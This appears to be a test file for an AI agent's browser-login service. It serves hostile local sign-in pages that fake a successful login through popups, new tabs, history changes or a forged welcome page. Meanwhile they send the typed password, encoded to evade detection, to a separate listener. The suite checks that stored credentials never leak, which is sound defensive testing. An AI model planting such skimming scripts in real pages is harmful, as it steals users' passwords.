import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
import { EMAIL, page, serveFlow } from '../../forms/flow-site.ts'
import { createTurns } from '../../support/abreast.ts'
import { type AccountService, startAccountService } from '../../support/account-service.ts'
import { until } from '../../support/until.ts'
import { listen, SECRET } from './hostile-site.ts'

const inTurn = createTurns(4)
let service: AccountService

beforeAll(async () => {
  service = await startAccountService()
}, 60_000)
afterAll(() => service.close(), 30_000)

/** How the page writes what it sends: nothing that looks for a password knows this encoding. */
const encode = (text: string): string => [...text].map(letter => letter.charCodeAt(0) * 3 + 1).join('-')

/** What a page does instead of sending its form, so that something else passes for the answer. */
const ATTACKS: readonly (readonly [name: string, script: string, frame?: true])[] = [
  ['a popup of its own site', "window.open('/home')"],
  ['a popup without an opener', "window.open('/home', '', 'noopener')"],
  ['a link to a new tab', "Object.assign(document.createElement('a'), { href: '/home', target: '_blank' }).click()"],
  ['a form in a new tab', "f = f.cloneNode(); f.target = '_blank'; document.body.append(f); f.submit()"],
  ['a frame that navigates', "document.querySelector('iframe').src = '/home'"],
  ['another address for the same page', "history.pushState(null, '', '/home')"],
  [
    'what looks like the inside',
    "f.remove(); document.body.append('Welcome back. ', Object.assign(document.createElement('a'), { href: '/logout', textContent: 'Log out' }))",
  ],
  ['a popup, from a form in a frame', "window.open('/home')", true],
]

const serve = (script: string, { elsewhere, framed }: { elsewhere: string; framed: boolean }) => {
  const form = page(
    `<h1>Sign in</h1><form method="post" action="/in"><input name="email" type="email"><input name="password" type="password"><button>Sign in</button></form><iframe src="/empty"></iframe>
    <script>
      let typed = ''
      let begun = false
      let f = document.querySelector('form')
      const encode = ${encode}
      document.querySelector('[type=password]').addEventListener('input', event => { typed = event.target.value })
      f.addEventListener('submit', event => {
        event.preventDefault()
        if (begun) return
        begun = true
        ${script}
        setInterval(() => { new Image().src = '/tick?' + Math.random(); new Image().src = '${elsewhere}/?' + encode(typed) + '&' + Math.random() }, 50)
      })
    </script>`,
  )
  const home = page('<h1>Welcome back</h1><p>Your orders</p><a href="/logout">Log out</a>')
  return serveFlow({
    '/': framed ? page('<h1>Members</h1><iframe src="/form" width="500" height="400"></iframe>') : form,
    ...{ '/form': form, '/empty': page(''), '/home': home, '/in': home },
  })
}

describe('a form is answered by what its own document becomes, and until then nothing goes elsewhere', () => {
  for (const [index, [name, script, framed = false]] of ATTACKS.entries())
    test.concurrent(
      `not by ${name}`,
      () =>
        inTurn(async () => {
          using elsewhere = listen()
          using site = serve(script, { elsewhere: elsewhere.origin, framed })
          const named = `own-answer-${index}`
          await service.send('POST', 'default/browser/credentials', { service: named, email: EMAIL, password: SECRET })
          const { status, body } = await service.send('POST', 'default/browser/login', {
            service: named,
            url: site.url('/'),
            allowed_domains: ['127.0.0.1', 'localhost'],
            keep_open: true,
          })
          const session = body.session_id
          const before = site.heard.filter(({ path }) => path === '/tick').length
          expect(before).toBeGreaterThan(0)
          if (status === 200) await until(() => site.heard.filter(({ path }) => path === '/tick').length > before + 5)
          expect(elsewhere.heard.filter(line => line.includes(encode(SECRET)))).toEqual([])
          if (session) await service.send('DELETE', `default/browser/sessions/${session}`)
          if (!name.startsWith('what looks')) expect(status).toBe(502)
        }),
      300_000,
    )

  test('what an agent types itself is heard elsewhere, by the same pages', async () => {
    for (const [, script] of ATTACKS.filter(([, , framed]) => !framed)) {
      using elsewhere = listen()
      using site = serve(script, { elsewhere: elsewhere.origin, framed: false })
      const opened = await service.send('POST', 'default/browser/sessions', {
        allowed_domains: ['127.0.0.1', 'localhost'],
        allow_writes: true,
      })
      const session = `default/browser/sessions/${opened.body.session_id}`
      await service.send('POST', `${session}/navigate`, { url: site.url('/') })
      const { body } = await service.send('POST', `${session}/observe`, {})
      const [, password, button] = body.elements
      await service.send('POST', `${session}/act`, { action: { ...password, arguments: ['plain words'] } })
      await service.send('POST', `${session}/act`, { action: button })
      await until(() => elsewhere.heard.some(line => line.includes(encode('plain words'))))
      await service.send('DELETE', session)
    }
  }, 60_000)
})
